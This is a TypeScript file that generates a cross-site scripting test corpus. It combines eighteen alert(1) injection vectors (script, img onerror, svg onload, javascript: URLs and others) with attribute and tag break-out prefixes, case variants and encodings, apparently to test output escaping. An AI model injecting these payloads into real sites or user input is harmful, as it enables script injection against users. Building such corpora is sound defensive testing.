/**
 * Our own XSS corpus, generated: each vector in several break-out contexts,
 * letter cases and encodings. Every payload would call alert() or add an
 * element if a page ever printed it unescaped.
 */
const JS = 'alert(1)';

const VECTORS = [
  `<script>${JS}</script>`,
  `<img src=x onerror=${JS}>`,
  `<svg onload=${JS}>`,
  `<svg><script>${JS}</script></svg>`,
  `<iframe src="javascript:${JS}"></iframe>`,
  `<a href="javascript:${JS}">bấm vào đây</a>`,
  `<body onload=${JS}>`,
  `<details open ontoggle=${JS}>`,
  `<input autofocus onfocus=${JS}>`,
  `<video><source onerror=${JS}></video>`,
  `<object data="javascript:${JS}"></object>`,
  `<marquee onstart=${JS}>x</marquee>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${JS}>`,
  `<div style="background:url(javascript:${JS})" onmouseover=${JS}>x</div>`,
  `<base href="javascript:${JS}//">`,
  `<form action="javascript:${JS}"><button>x</button></form>`,
  `<embed src="javascript:${JS}">`,
  `<isindex type=image src=1 onerror=${JS}>`,
];

// Where an attacker hopes the text lands: plain text, an attribute, a comment, a textarea, a script.
const BREAKOUTS = [
  '',
  '">',
  "'>",
  '</textarea>',
  '</title>',
  '-->',
  '</script>',
  '`>',
  '" autofocus onfocus="alert(1)" x="',
];

function mixedCase(s: string): string {
  let n = 0;
  return s.replace(/[a-z]/g, (c) => (n++ % 2 === 0 ? c.toUpperCase() : c));
}

const ENCODINGS: ((s: string) => string)[] = [
  (s) => s.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
  (s) => s.replace(/</g, '&#x3C;').replace(/>/g, '&#62;'),
  (s) => encodeURIComponent(s),
  (s) => s.replace(/</g, '\\u003c').replace(/>/g, '\\u003e'),
  (s) => s.replace(/</g, '%253C').replace(/>/g, '%253E'),
  (s) => s.replace(/</g, '＜').replace(/>/g, '＞'),
];

export function xssCorpus(): string[] {
  const out = new Set<string>();
  for (const v of VECTORS) {
    for (const b of BREAKOUTS) {
      out.add(b + v);
      out.add(b + v.toUpperCase().replace('ALERT(1)', JS));
      out.add(b + mixedCase(v));
    }
    for (const enc of ENCODINGS) out.add(enc(v));
  }
  return [...out];
}
